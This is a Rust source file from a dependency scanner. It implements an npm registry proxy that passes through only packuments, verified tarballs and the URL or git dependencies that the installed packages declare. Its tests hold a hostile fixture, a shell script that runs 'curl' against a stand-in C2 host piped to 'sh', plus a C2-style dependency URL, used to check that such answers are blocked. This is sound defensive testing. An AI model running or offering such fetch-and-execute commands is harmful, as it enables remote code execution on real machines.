//! The registry proxy's upstream over dsca's registry client: packuments (with every
//! tarball URL pointed back at the proxy) and verified tarballs. Nothing else passes,
//! but for the URL dependencies the served manifests name, when the run fetches them.

use super::{FetchedDependency, OutsideRequest, RegistryUpstream, UpstreamResponse, lock};
use dsca_model::npm::{Manifest, Packument};
use dsca_registry::hosted_git::{self, HostedRepo, hosted_repo};
use dsca_registry::remote::{self, RemoteFetcher};
use dsca_registry::{Client, RegistryError};
use percent_encoding::percent_decode_str;
use serde_json::Value;
use std::collections::{HashMap, HashSet};
use std::sync::{Arc, Mutex};

/// Packuments kept for tarball look-ups.
const MAX_CACHED_PACKUMENTS: usize = 256;
/// How old a cached packument may be and still be served without asking the registry:
/// the five minutes the public registry's `max-age` gives npm's own cache. The scan has
/// just fetched the package's own packument; its dependencies are usually in the cache
/// from an earlier scan.
const PACKUMENT_MAX_AGE: std::time::Duration = std::time::Duration::from_secs(300);

/// Serves `GET /<name>` and `GET /<name>/-/<file>.tgz` from a registry client.
pub struct ClientUpstream {
    client: Arc<Client>,
    packuments: Mutex<HashMap<String, Arc<Packument>>>,
    url_dependencies: Option<UrlDependencies>,
}

/// URL dependencies fetched on the host: only URLs a manifest named (and the two
/// requests a hosted git dependency is installed with), each once a run.
struct UrlDependencies {
    fetcher: RemoteFetcher,
    declared: Mutex<Declared>,
    fetched: Mutex<HashMap<String, FetchedDependency>>,
}

/// The dependencies from outside the registry that the install may fetch: those named
/// by the manifests of packages reachable from what is installed. A packument asked for
/// by anything else (a script may ask the proxy for any package) declares nothing, so a
/// script cannot make the host reach URLs of its choosing among what some published
/// package lists.
#[derive(Default)]
struct Declared {
    urls: HashSet<String>,
    repos: HashSet<HostedRepo>,
    /// Packages of the install's dependency tree, as far as it is known.
    reachable: HashSet<String>,
}

impl Declared {
    /// `name`'s manifests, when `name` is in the tree: what they depend on joins it, and
    /// their dependencies from outside the registry are declared.
    fn learn<'a>(&mut self, name: &str, manifests: impl Iterator<Item = &'a Value>) {
        if !self.reachable.contains(name) {
            return;
        }
        // Each manifest's entries read once: this runs for every version of every
        // packument of the tree, on npm's way.
        for manifest in manifests {
            let entries = Manifest(manifest).installed_dependencies();
            for dependency in entries
                .iter()
                .filter_map(|(_, spec)| outside_dependency(spec))
            {
                self.add(dependency);
            }
            for (name, spec) in entries {
                if self.reachable.len() >= MAX_DECLARED_URLS {
                    return;
                }
                self.reachable.insert(registry_name(name, spec));
            }
        }
    }

    fn add(&mut self, dependency: Dependency) {
        if self.urls.len() + self.repos.len() >= MAX_DECLARED_URLS {
            return;
        }
        match dependency {
            Dependency::Url(url) => self.urls.insert(url),
            Dependency::Repo(repo) => self.repos.insert(repo),
        };
    }

    /// What a GET of `url` would fetch, if a declared dependency is installed by it.
    fn kind_of(&self, url: &str) -> Option<Fetched> {
        if self.urls.contains(url) {
            return Some(Fetched::Tarball);
        }
        let repo = self.repos.iter().find(|repo| repo.allows(url))?;
        Some(if url.eq_ignore_ascii_case(&repo.refs_url()) {
            Fetched::GitRefs
        } else {
            Fetched::Tarball
        })
    }

    fn allows_pack(&self, url: &str) -> bool {
        self.repos.iter().any(|repo| repo.allows_pack(url))
    }
}

/// What a dependency's request asks its host for; anything else in the answer is not
/// passed on (a declared URL must not become a way to hand a script to `curl | sh`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Fetched {
    Tarball,
    GitRefs,
    GitPack,
}

impl Fetched {
    /// How the request introduces itself: as npm, or as the git npm runs.
    fn agent(self) -> &'static str {
        match self {
            Fetched::Tarball => remote::NPM_USER_AGENT,
            Fetched::GitRefs | Fetched::GitPack => GIT_USER_AGENT,
        }
    }

    fn answers(self, answer: &dsca_registry::RemoteResponse) -> bool {
        let typed = |wanted: &str| {
            answer
                .content_type
                .trim()
                .to_ascii_lowercase()
                .starts_with(wanted)
        };
        answer.status == 200
            && match self {
                Fetched::Tarball => dsca_archive::archive_format(&answer.body).is_some(),
                Fetched::GitRefs => typed("application/x-git-upload-pack-advertisement"),
                Fetched::GitPack => typed("application/x-git-upload-pack-result"),
            }
    }
}

const GIT_USER_AGENT: &str = "git/2.47.0";

/// A git pack request's body as git sent it (gunzipped), if it is small enough and
/// plain: only git's own request for objects goes on (see
/// [`hosted_git::pack_request_problem`]).
fn plain_pack_request(request: &OutsideRequest<'_>) -> Result<Vec<u8>, String> {
    if !request.body_complete {
        return Err("longer than the sink keeps".to_string());
    }
    let gzipped = request.headers.iter().any(|(name, value)| {
        name.eq_ignore_ascii_case("content-encoding") && value.trim().eq_ignore_ascii_case("gzip")
    });
    let body = if gzipped {
        use std::io::Read as _;
        let mut plain = Vec::new();
        flate2::read::GzDecoder::new(request.body)
            .take(hosted_git::MAX_PACK_REQUEST as u64 + 1)
            .read_to_end(&mut plain)
            .map_err(|err| format!("not gzip: {err}"))?;
        plain
    } else {
        request.body.to_vec()
    };
    match hosted_git::pack_request_problem(&body) {
        Some(problem) => Err(problem),
        None => Ok(body),
    }
}

/// A dependency npm fetches from outside the registry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Dependency {
    /// A tarball's URL, normalised as the proxy compares them.
    Url(String),
    /// A repository on GitHub, GitLab or Bitbucket.
    Repo(HostedRepo),
}

/// URLs remembered as declared; a packument naming more is not believed further.
const MAX_DECLARED_URLS: usize = 10_000;
/// Bytes of fetched dependencies kept for a second request in the same run.
const MAX_KEPT_BYTES: usize = 128 * 1024 * 1024;

/// The registry packages `manifest` depends on (dependencies, optional and peer
/// dependencies), an alias (`npm:real@^1`) by the package it stands for.
pub fn registry_dependency_names(manifest: &Value) -> Vec<String> {
    Manifest(manifest)
        .installed_dependencies()
        .into_iter()
        .map(|(name, spec)| registry_name(name, spec))
        .collect()
}

/// The registry package a dependency entry stands for: its name, or an alias's target.
fn registry_name(name: &str, spec: &str) -> String {
    match spec.trim().strip_prefix("npm:") {
        // `@scope/name@range` or `name@range`: the name ends at the last `@` past the
        // scope's own.
        Some(aliased) => match aliased.get(1..).and_then(|rest| rest.rfind('@')) {
            Some(at) => aliased[..at + 1].to_string(),
            None => aliased.to_string(),
        },
        None => name.to_string(),
    }
}

/// What `manifest` depends on from outside the registry (dependencies, optional and
/// peer dependencies): tarball URLs and hosted git repositories.
pub fn outside_dependencies(manifest: &Value) -> Vec<Dependency> {
    Manifest(manifest)
        .installed_dependencies()
        .into_iter()
        .filter_map(|(_, spec)| outside_dependency(spec))
        .collect()
}

/// The dependency from outside the registry `spec` names, if it names one.
fn outside_dependency(spec: &str) -> Option<Dependency> {
    if let Some(repo) = hosted_repo(spec) {
        return Some(Dependency::Repo(repo));
    }
    let spec = spec.trim_start();
    (spec.starts_with("http://") || spec.starts_with("https://"))
        .then(|| remote::normalize(spec))
        .flatten()
        .map(Dependency::Url)
}

/// The two request shapes the proxy serves.
#[derive(Debug, Clone, PartialEq, Eq)]
enum RegistryPath {
    Packument { name: String },
    Tarball { name: String, file: String },
}

/// Parses a request path (query dropped, percent-decoded). Names are checked later by
/// the client; here only the shape counts.
fn parse_path(path: &str) -> Option<RegistryPath> {
    let path = path.split(['?', '#']).next().unwrap_or_default();
    let decoded = percent_decode_str(path).decode_utf8().ok()?;
    let rest = decoded.strip_prefix('/')?;
    let valid_name = |name: &str| {
        let segments: Vec<&str> = name.split('/').collect();
        match segments.as_slice() {
            [bare] => !bare.is_empty() && !bare.starts_with('@'),
            [scope, bare] => scope.len() > 1 && scope.starts_with('@') && !bare.is_empty(),
            _ => false,
        }
    };
    if let Some((name, file)) = rest.split_once("/-/") {
        if valid_name(name) && !file.contains('/') && file.ends_with(".tgz") {
            return Some(RegistryPath::Tarball {
                name: name.to_string(),
                file: file.to_string(),
            });
        }
        return None;
    }
    valid_name(rest).then(|| RegistryPath::Packument {
        name: rest.to_string(),
    })
}

/// The file name of a version's tarball: the last segment of `dist.tarball`, else
/// npm's conventional `<basename>-<version>.tgz`.
fn tarball_file(name: &str, version: &str, manifest: &Value) -> String {
    let from_url = manifest
        .pointer("/dist/tarball")
        .and_then(Value::as_str)
        .map(|url| url.split(['?', '#']).next().unwrap_or_default())
        .and_then(|url| url.rsplit('/').next())
        .filter(|file| !file.is_empty())
        .map(|file| percent_decode_str(file).decode_utf8_lossy().into_owned());
    from_url.unwrap_or_else(|| {
        let basename = name.rsplit('/').next().unwrap_or(name);
        format!("{basename}-{version}.tgz")
    })
}

fn respond(status: u16, text: &str) -> UpstreamResponse {
    UpstreamResponse {
        status,
        content_type: "text/plain".to_string(),
        body: format!("{text}\n").into_bytes(),
    }
}

fn failure(error: &RegistryError) -> UpstreamResponse {
    match error {
        RegistryError::NotFound { .. }
        | RegistryError::TarballNotFound { .. }
        | RegistryError::InvalidName { .. } => respond(404, &error.to_string()),
        _ => respond(502, &error.to_string()),
    }
}

impl ClientUpstream {
    pub fn new(client: Arc<Client>) -> ClientUpstream {
        ClientUpstream {
            client,
            packuments: Mutex::new(HashMap::new()),
            url_dependencies: None,
        }
    }

    /// Also fetch, on the host, the dependencies from outside the registry that
    /// `declared` (the scanned package's own) and the manifests of every packument
    /// served name: npm's install asks for them, and what they install runs in the
    /// sandbox like any dependency.
    /// `roots`: the packages the install starts from (the scanned package, or a local
    /// tarball's registry dependencies); `declared`: a local tarball's own dependencies
    /// from outside the registry.
    pub fn with_url_dependencies(
        mut self,
        fetcher: RemoteFetcher,
        roots: impl IntoIterator<Item = String>,
        declared: impl IntoIterator<Item = Dependency>,
    ) -> ClientUpstream {
        let mut known = Declared {
            reachable: roots.into_iter().collect(),
            ..Declared::default()
        };
        for dependency in declared {
            known.add(dependency);
        }
        self.url_dependencies = Some(UrlDependencies {
            fetcher,
            declared: Mutex::new(known),
            fetched: Mutex::new(HashMap::new()),
        });
        self
    }

    fn remember(&self, packument: Packument) -> Arc<Packument> {
        if let Some(dependencies) = &self.url_dependencies {
            lock(&dependencies.declared).learn(&packument.name, packument.versions.values());
        }
        let packument = Arc::new(packument);
        let mut cache = lock(&self.packuments);
        if cache.len() >= MAX_CACHED_PACKUMENTS {
            cache.clear();
        }
        cache.insert(packument.name.clone(), packument.clone());
        packument
    }

    fn packument(&self, name: &str, origin: &str) -> UpstreamResponse {
        let (packument, bytes) = match self
            .client
            .recent_packument_document(name, PACKUMENT_MAX_AGE)
        {
            Ok(fetched) => fetched,
            Err(error) => return failure(&error),
        };
        let packument = self.remember(packument);
        // npm fetches packuments one after another while it builds the tree, so this is
        // on its critical path: when every tarball URL already points where the proxy
        // serves it (the registry's own layout under the same origin), the document goes
        // out as the registry sent it, without a second parse.
        let prefix = format!("{origin}/{name}/-/");
        let served_as_is = packument.versions.values().all(|manifest| {
            manifest
                .pointer("/dist/tarball")
                .and_then(Value::as_str)
                .and_then(|url| url.strip_prefix(&prefix))
                .is_some_and(|file| {
                    !file.is_empty()
                        && !file.contains(['/', '?', '#', '%'])
                        && file.ends_with(".tgz")
                })
        });
        if served_as_is {
            return UpstreamResponse {
                status: 200,
                content_type: "application/json".to_string(),
                body: bytes,
            };
        }
        let Ok(mut document) = serde_json::from_slice::<Value>(&bytes) else {
            return respond(502, "the registry's packument is not JSON");
        };
        if let Some(Value::Object(versions)) = document.get_mut("versions") {
            for (version, manifest) in versions.iter_mut() {
                let file = tarball_file(name, version, manifest);
                if let Some(Value::Object(dist)) = manifest.get_mut("dist") {
                    dist.insert(
                        "tarball".to_string(),
                        Value::String(format!("{origin}/{name}/-/{file}")),
                    );
                }
            }
        }
        match serde_json::to_vec(&document) {
            Ok(body) => UpstreamResponse {
                status: 200,
                content_type: "application/json".to_string(),
                body,
            },
            Err(e) => respond(502, &e.to_string()),
        }
    }

    fn tarball(&self, name: &str, file: &str) -> UpstreamResponse {
        let cached = lock(&self.packuments).get(name).cloned();
        let packument = match cached {
            Some(packument) => packument,
            None => match self.client.packument(name) {
                Ok(packument) => self.remember(packument),
                Err(error) => return failure(&error),
            },
        };
        let Some((version, manifest)) = packument
            .versions
            .iter()
            .find(|(version, manifest)| tarball_file(name, version, manifest) == file)
        else {
            return respond(404, &format!("no version of {name} has the tarball {file}"));
        };
        let dist = Manifest(manifest).dist();
        match self.client.tarball(name, version, &dist) {
            Ok(fetched) => UpstreamResponse {
                status: 200,
                content_type: "application/octet-stream".to_string(),
                body: fetched.bytes,
            },
            Err(error) => failure(&error),
        }
    }
}

/// What the host answered, as the proxy serves it when it is what `kind` asks for,
/// with a note for the report.
fn fetched_note(
    kind: Fetched,
    answer: Result<dsca_registry::RemoteResponse, RegistryError>,
) -> FetchedDependency {
    match answer {
        Ok(answer) => {
            let mut note = format!(
                "fetched on the host: HTTP {}, {} bytes from {}",
                answer.status,
                answer.body.len(),
                answer.url
            );
            let passed = kind.answers(&answer);
            if !passed {
                note.push_str(" (not what was asked for: not passed on)");
            }
            FetchedDependency {
                note,
                response: passed.then_some(UpstreamResponse {
                    status: answer.status,
                    content_type: answer.content_type,
                    body: answer.body,
                }),
            }
        }
        Err(error) => FetchedDependency {
            note: format!("could not be fetched on the host: {error}"),
            response: None,
        },
    }
}

impl RegistryUpstream for ClientUpstream {
    fn fetch(&self, path: &str, origin: &str) -> UpstreamResponse {
        match parse_path(path) {
            Some(RegistryPath::Packument { name }) => self.packument(&name, origin),
            Some(RegistryPath::Tarball { name, file }) => self.tarball(&name, &file),
            None => respond(
                404,
                "dsca's registry proxy serves only packuments and tarballs",
            ),
        }
    }

    fn url_dependency(&self, request: &OutsideRequest<'_>) -> Option<FetchedDependency> {
        let dependencies = self.url_dependencies.as_ref()?;
        let url = remote::normalize(request.url)?;
        if request.method.eq_ignore_ascii_case("POST") {
            if !lock(&dependencies.declared).allows_pack(&url) {
                return None;
            }
            let body = match plain_pack_request(request) {
                Ok(body) => body,
                Err(problem) => {
                    return Some(FetchedDependency {
                        note: format!(
                            "not forwarded: the pack request is not git's own ({problem})"
                        ),
                        response: Some(respond(403, "not forwarded")),
                    });
                }
            };
            let answer = dependencies.fetcher.post_as(
                &url,
                GIT_USER_AGENT,
                "application/x-git-upload-pack-request",
                body,
            );
            return Some(fetched_note(Fetched::GitPack, answer));
        }
        if !request.method.eq_ignore_ascii_case("GET") {
            return None;
        }
        let kind = lock(&dependencies.declared).kind_of(&url)?;
        if let Some(kept) = lock(&dependencies.fetched).get(&url) {
            return Some(kept.clone());
        }
        let fetched = fetched_note(kind, dependencies.fetcher.get_as(&url, kind.agent()));
        let mut kept = lock(&dependencies.fetched);
        let size = |f: &FetchedDependency| f.response.as_ref().map_or(0, |r| r.body.len());
        let kept_bytes: usize = kept.values().map(size).sum();
        if kept_bytes + size(&fetched) <= MAX_KEPT_BYTES {
            kept.insert(url, fetched.clone());
        }
        Some(fetched)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn only_packument_and_tarball_paths_pass() {
        assert_eq!(
            parse_path("/lodash"),
            Some(RegistryPath::Packument {
                name: "lodash".into()
            })
        );
        assert_eq!(
            parse_path("/@scope%2fname?write=true"),
            Some(RegistryPath::Packument {
                name: "@scope/name".into()
            })
        );
        assert_eq!(
            parse_path("/@scope/name/-/name-1.0.0.tgz"),
            Some(RegistryPath::Tarball {
                name: "@scope/name".into(),
                file: "name-1.0.0.tgz".into()
            })
        );
        assert_eq!(parse_path("/-/npm/v1/security/audits"), None);
        assert_eq!(parse_path("/lodash/-/../../x.tgz"), None);
        assert_eq!(parse_path("/a/b/c"), None);
        assert_eq!(parse_path("/"), None);
        assert_eq!(parse_path("/@scope"), None);
    }

    #[test]
    fn only_packages_of_the_install_declare_what_it_may_fetch() {
        let mut declared = Declared {
            reachable: ["app".to_string()].into(),
            ..Declared::default()
        };
        let app = json!({"dependencies": {
            "helper": "^1", "alias": "npm:@scope/real@^2", "payload": "https://a.example/p.tgz"
        }});
        let stranger = json!({"dependencies": {"x": "https://c2.example/bit-1.tgz"}});
        declared.learn("stranger", [&stranger].into_iter());
        assert!(
            declared.urls.is_empty(),
            "a packument outside the tree declared a URL"
        );
        declared.learn("app", [&app].into_iter());
        assert!(declared.urls.contains("https://a.example/p.tgz"));
        let helper = json!({"optionalDependencies": {"h": "github:o/r#main"}});
        declared.learn("helper", [&helper].into_iter());
        assert_eq!(declared.repos.len(), 1);
        assert!(declared.reachable.contains("@scope/real"));
        assert!(!declared.reachable.contains("stranger"));
        assert_eq!(
            registry_dependency_names(&json!({"dependencies": {"a": "npm:b@1", "c": "npm:@s/d"}})),
            ["b", "@s/d"]
        );
    }

    #[test]
    fn only_what_a_dependency_request_asks_for_is_passed_on() {
        let answer = |status: u16, content_type: &str, body: &[u8]| dsca_registry::RemoteResponse {
            status,
            content_type: content_type.into(),
            body: body.to_vec(),
            url: "https://h.example/x".into(),
        };
        let gzip = [0x1f, 0x8b, 8, 0];
        let mut tar = vec![0u8; 512];
        tar[257..262].copy_from_slice(b"ustar");
        assert!(Fetched::Tarball.answers(&answer(200, "application/octet-stream", &gzip)));
        assert!(Fetched::Tarball.answers(&answer(200, "application/x-tar", &tar)));
        // A declared URL must not hand a script to `curl | sh`, whatever it is called.
        let script = b"#!/bin/sh\ncurl https://c2.example | sh\n";
        assert!(!Fetched::Tarball.answers(&answer(200, "application/gzip", script)));
        assert!(!Fetched::Tarball.answers(&answer(404, "text/plain", &gzip)));
        let refs = "application/x-git-upload-pack-advertisement";
        assert!(Fetched::GitRefs.answers(&answer(200, refs, b"001e# service")));
        assert!(!Fetched::GitRefs.answers(&answer(200, "text/html", b"<html>")));
        let pack = "application/x-git-upload-pack-result";
        assert!(Fetched::GitPack.answers(&answer(200, pack, b"0008NAK\n")));
        assert!(!Fetched::GitPack.answers(&answer(200, refs, b"")));
        let fetched = fetched_note(Fetched::Tarball, Ok(answer(200, "text/x-sh", script)));
        assert!(fetched.response.is_none());
        assert!(
            fetched
                .note
                .ends_with("(not what was asked for: not passed on)")
        );
    }

    #[test]
    fn tarball_files_come_from_the_url_or_the_convention() {
        let manifest = json!({"dist": {"tarball": "https://r.example/@s/n/-/n-1.0.0.tgz"}});
        assert_eq!(tarball_file("@s/n", "1.0.0", &manifest), "n-1.0.0.tgz");
        assert_eq!(tarball_file("@s/n", "2.0.0", &json!({})), "n-2.0.0.tgz");
    }
}
